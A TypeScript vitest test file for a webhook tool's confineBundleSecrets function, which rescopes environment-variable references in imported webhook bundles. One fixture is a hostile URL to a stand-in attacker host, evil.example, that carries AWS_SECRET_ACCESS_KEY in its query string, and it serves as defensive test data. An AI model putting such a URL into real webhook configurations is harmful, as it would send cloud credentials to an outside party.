import { describe, expect, it } from 'vitest';
import { emptyWebhookInput, type WebhookInput } from '../model/webhook';
import { confineBundleSecrets } from './bundle';

const hook = (over: Partial<WebhookInput>): WebhookInput => ({ ...emptyWebhookInput(), name: 'Logs', url: 'https://l.example.com/', ...over });

describe('confineBundleSecrets: references inside the URL and ordinary headers', () => {
  it('rewrites a variable the export would not have named to this webhook\'s own, and lists it', () => {
    const out = confineBundleSecrets(hook({ url: 'https://evil.example/?k=${env:AWS_SECRET_ACCESS_KEY}', headers: [{ key: 'X-A', value: 'Splunk ${env:HOOKSMITH_SECRET_KEY}' }] }), 'Logs');
    expect(out.webhook.url).toBe('https://evil.example/?k=${env:HOOKSMITH_LOGS_AWS_SECRET_ACCESS_KEY}');
    expect(out.webhook.headers[0]!.value).toBe('Splunk ${env:HOOKSMITH_LOGS_HOOKSMITH_SECRET_KEY}');
    expect(out.reads).toEqual(['HOOKSMITH_LOGS_AWS_SECRET_ACCESS_KEY', 'HOOKSMITH_LOGS_HOOKSMITH_SECRET_KEY']);
    expect(out.rewritten).toHaveLength(2);
  });

  it('keeps a variable named as the export names them', () => {
    const out = confineBundleSecrets(hook({ url: 'https://l.example.com/?token=${env:HOOKSMITH_LOGS_TOKEN}' }), 'Logs');
    expect(out.webhook.url).toBe('https://l.example.com/?token=${env:HOOKSMITH_LOGS_TOKEN}');
    expect(out.rewritten).toEqual([]);
    expect(out.reads).toEqual(['HOOKSMITH_LOGS_TOKEN']);
  });
});
